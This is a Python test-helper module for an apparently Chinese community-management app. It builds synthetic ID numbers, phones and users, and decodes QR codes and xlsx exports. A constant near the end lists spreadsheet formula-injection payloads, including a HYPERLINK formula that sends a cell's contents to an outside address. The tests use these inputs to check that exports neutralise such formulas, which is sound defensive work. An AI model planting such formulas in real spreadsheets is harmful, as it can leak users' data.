"""Small builders for test data (valid synthetic ID numbers and phones, users), QR and spreadsheet readers,
and the CI rule for missing tools. The persona world (``build_world``) lives at the project level, in
``fangkong.project.testing``, since it spans the registry."""

from __future__ import annotations

import datetime as dt
import random
import re
from typing import Any

from stdnum.cn import ric

from fangkong.core.models import User

PASSWORD = "Fangkong-test-2020"


def in_ci() -> bool:
    """CI runs set CI=true: there, a missing tool or server fails the run instead of skipping tests."""
    import os

    return os.environ.get("CI", "").lower() == "true"


def skip_or_fail_in_ci(reason: str) -> None:
    """Skip the test for ``reason`` (a missing tool), or fail it in CI, where every leg must run."""
    import pytest

    if in_ci():
        pytest.fail(f"CI=true: {reason}")
    pytest.skip(reason)


def make_id_number(
    rng: random.Random | None = None, *, region: str = "310109", birth: dt.date | None = None
) -> str:
    """A valid synthetic resident ID number (GB 11643) with a real region code and check digit."""
    rng = rng or random.Random()
    if birth is None:
        birth = dt.date(1940, 1, 1) + dt.timedelta(days=rng.randrange(0, 365 * 65))
    body = f"{region}{birth:%Y%m%d}{rng.randrange(0, 1000):03d}"
    return body + ric.calc_check_digit(body + "0")


def make_phone(rng: random.Random | None = None) -> str:
    rng = rng or random.Random()
    prefix = rng.choice(["135", "136", "138", "139", "150", "158", "186", "187", "189", "177"])
    return prefix + f"{rng.randrange(0, 10**8):08d}"


def make_user(username: str, role: str, *, password: str = PASSWORD, **fields: Any) -> User:
    hoods = fields.pop("neighborhoods", [])
    user = User(username=username, role=role, display_name=fields.pop("display_name", username), **fields)
    user.set_password(password)
    user.save()
    if hoods:
        user.neighborhoods.set(hoods)
    return user


def decode_qr_image(png: bytes) -> str:
    """The text of the one QR code in a PNG image. Fails unless there is exactly one code and it is a full QR
    code (Micro QR, which phone scanners cannot read, fails)."""
    import io

    import zxingcpp
    from PIL import Image

    image: Image.Image = Image.open(io.BytesIO(png))
    if image.mode in ("RGBA", "LA", "P"):  # transparent background: put it on white paper
        image = image.convert("RGBA")
        paper = Image.new("RGBA", image.size, "white")
        paper.alpha_composite(image)
        image = paper
    image = image.convert("L")
    found = zxingcpp.read_barcodes(image)
    assert len(found) == 1, f"expected one QR code, found {len(found)}"
    code = found[0]
    assert code.format == zxingcpp.BarcodeFormat.QRCode, f"not a full QR code: {code.format}"
    return str(code.text)


def decode_qr_svg(svg: str | bytes, *, width: int = 400) -> str:
    """Rasterize an SVG (a standalone document or an inline <svg> element, as the pages serve it) and decode
    its QR code with ``decode_qr_image``. Needs the cairo library (Debian's libcairo2, which chromium pulls in);
    the test is skipped without it."""
    import pytest

    try:
        import cairosvg
    except OSError:  # cairocffi found no libcairo
        pytest.skip("libcairo2 is not installed")
    import re

    text = svg.decode() if isinstance(svg, bytes) else svg
    opening = re.search(r"<svg\b[^>]*>", text)
    assert opening is not None, "no <svg> element"
    if "xmlns=" not in opening.group(0):  # an inline element: the HTML parser supplies the namespace
        text = text.replace("<svg", '<svg xmlns="http://www.w3.org/2000/svg"', 1)
    png = cairosvg.svg2png(bytestring=text.encode(), output_width=width, background_color="white")
    return decode_qr_image(png)


def decode_qr_in_html(html: str | bytes, *, index: int = 0) -> str:
    """Decode the ``index``-th QR code drawn inline in a page (segno's <svg class="segno"> elements)."""
    import re

    text = html.decode() if isinstance(html, bytes) else html
    svgs = re.findall(r"<svg\b[^>]*\bclass=\"segno\".*?</svg>", text, flags=re.S)
    assert len(svgs) > index, f"the page has {len(svgs)} QR code(s)"
    return decode_qr_svg(svgs[index])


# Texts that a spreadsheet program could run as a formula (OWASP), for the export tests of every format.
FORMULA_PAYLOADS = (
    "=1+2",
    '=HYPERLINK("http://example.org/?x="&A1,"点此")',
    "+86-21-1234",
    "-5",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "'=1+2",
    "#N/A",
)


def ooxml_text(value: str) -> str:
    """A stored cell text with OOXML's ``_xHHHH_`` escapes decoded, as Excel and python-calamine read it."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)


def xlsx_texts(content: Any) -> list[str]:
    """Every text cell of every sheet of an xlsx (bytes, path or file), as the import reads it back.

    Fails if any cell is a formula, or a text cell begins with a character that makes a formula."""
    import io
    from pathlib import Path

    from openpyxl import load_workbook

    from fangkong.core.spreadsheets import FORMULA_TRIGGERS, from_cell

    if isinstance(content, bytes | bytearray):
        content = io.BytesIO(content)
    elif isinstance(content, str | Path):
        content = str(content)
    texts: list[str] = []
    for sheet in load_workbook(content).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in FORMULA_TRIGGERS, (cell.coordinate, cell.value)
                    # decode OOXML's _xHHHH_ escapes as Excel and the import do (openpyxl keeps them)
                    texts.append(from_cell(ooxml_text(cell.value)))
    return texts


def tiny_jpeg(width: int = 64, height: int = 48, color: tuple[int, int, int] = (200, 40, 40)) -> bytes:
    """A small real JPEG for photo uploads in tests."""
    import io

    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(out, format="JPEG")
    return out.getvalue()
